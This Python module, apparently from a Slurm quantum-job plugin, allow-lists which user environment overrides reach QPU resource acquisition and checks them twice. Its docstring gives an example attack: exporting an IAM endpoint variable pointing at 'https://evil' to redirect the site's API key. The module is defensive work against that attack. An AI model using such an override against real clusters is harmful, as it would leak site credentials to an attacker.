"""Settings a user may override from the submitting environment, and nothing else.

QRMI reads ``<qpu>_<KEY>`` from the job's environment, so with spank_qrmi a user can
export ``ibm_x_QRMI_IBM_QCS_IAM_ENDPOINT=https://evil`` and make the root-side acquire send
the site's API key there. slurm-qpu takes such a variable into the acquisition only if
its key is on this allow-list and its value passes the key's check; endpoints and
credentials never are. Checked twice: by ``sbatch`` (which warns the user) and again by
whoever acquires (the prolog or the broker), because a user controls everything ``sbatch``
sends. Standard library only (runs at submit time).
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass

from slurm_qpu.vendors.builtin import record_of
from slurm_qpu.vendors.record import Allowed
from slurm_qpu.vendors.type_names import LEGACY_TYPES, current_type

# The job-control variable sbatch/salloc pass to the prolog (Slurm prefixes it SPANK_).
CONTROL_NAME = "SLURM_QPU_OVERRIDES"
PROLOG_ENV = "SPANK_" + CONTROL_NAME


def _allowed(type_name: str) -> tuple[Allowed, ...]:
    """A type's allow-list, from its vendor's record (a site's vendor's too: only then is
    the registry of entry points read)."""
    record = record_of(current_type(type_name))
    return record.overrides if record is not None else ()


def allowed_keys(type_name: str) -> dict[str, Allowed]:
    return {a.key: a for a in _allowed(type_name)}


def _current_key(type_name: str, key: str) -> str:
    legacy = LEGACY_TYPES.get(type_name)
    if legacy and key.startswith(legacy.legacy_prefix):
        return legacy.current_prefix + key[len(legacy.legacy_prefix):]
    for spec in LEGACY_TYPES.values():  # a legacy spelling on a current type
        if current_type(type_name) == spec.current and key.startswith(spec.legacy_prefix):
            return spec.current_prefix + key[len(spec.legacy_prefix):]
    return key


@dataclass(frozen=True)
class Sorted:
    accepted: dict[str, dict[str, str]]  # qpu -> {current key: value}
    refused: list[str]  # one message per variable that is not used

    def encode(self) -> str:
        return json.dumps(self.accepted, separators=(",", ":"), sort_keys=True)


def sort_environment(qpus: Mapping[str, str], environ: Mapping[str, str]) -> Sorted:
    """Split the ``<qpu>_<KEY>`` variables of ``environ`` for the requested ``qpus``
    (name -> type) into accepted overrides and refusals with their reasons."""
    accepted: dict[str, dict[str, str]] = {}
    refused: list[str] = []
    for name, type_name in qpus.items():
        prefix = name + "_"
        # with QPUs ibm and ibm_x, ibm_x_<KEY> is ibm_x's, not ibm's key x_<KEY>
        longer = tuple(q + "_" for q in qpus if q != name and q.startswith(prefix))
        allowed = allowed_keys(type_name)
        for var in sorted(v for v in environ
                          if v.startswith(prefix) and not (longer and v.startswith(longer))):
            key = _current_key(type_name, var[len(prefix):])
            if key.startswith("QRMI_JOB_"):
                continue  # the plugin's own contract variables, set in every task
            rule = allowed.get(key)
            if rule is None:
                hint = (f"only {', '.join(allowed)} may be overridden for {name}" if allowed
                        else f"nothing may be overridden for {name}")
                refused.append(f"ignoring {var} from your environment: endpoints, credentials "
                               f"and other site settings come from the site's QPU "
                               f"configuration ({hint})")
                continue
            problem = rule.check(environ[var])
            if problem:
                refused.append(f"ignoring {var}={environ[var]!r}: {problem}")
                continue
            accepted.setdefault(name, {})[key] = environ[var]
    return Sorted(accepted, refused)


def decode(text: str | None, qpus: Mapping[str, str]) -> Sorted:
    """Overrides as sent by sbatch, checked again against the allow-list (a user can send
    anything in place of what sbatch would)."""
    if not text:
        return Sorted({}, [])
    try:
        raw = json.loads(text)
    except ValueError:
        return Sorted({}, ["ignoring the job's QPU overrides: not valid JSON"])
    if not isinstance(raw, dict):
        return Sorted({}, ["ignoring the job's QPU overrides: not a JSON object"])
    flat = {f"{qpu}_{key}": str(value)
            for qpu, values in raw.items() if isinstance(values, dict) and qpu in qpus
            for key, value in values.items()}
    return sort_environment(qpus, flat)


def apply(environment: Mapping[str, str], type_name: str,
          overrides: Mapping[str, str]) -> dict[str, str]:
    """A resource's config environment with the accepted overrides laid over it. Legacy
    spellings of an overridden key are replaced too, so no stale value wins."""
    out = dict(environment)
    for key, value in overrides.items():
        for spelling in _spellings(type_name, key):
            out.pop(spelling, None)
        out[key] = value
    return out


def _spellings(type_name: str, key: str) -> Iterable[str]:
    yield key
    for spec in LEGACY_TYPES.values():
        if key.startswith(spec.current_prefix):
            yield spec.legacy_prefix + key[len(spec.current_prefix):]
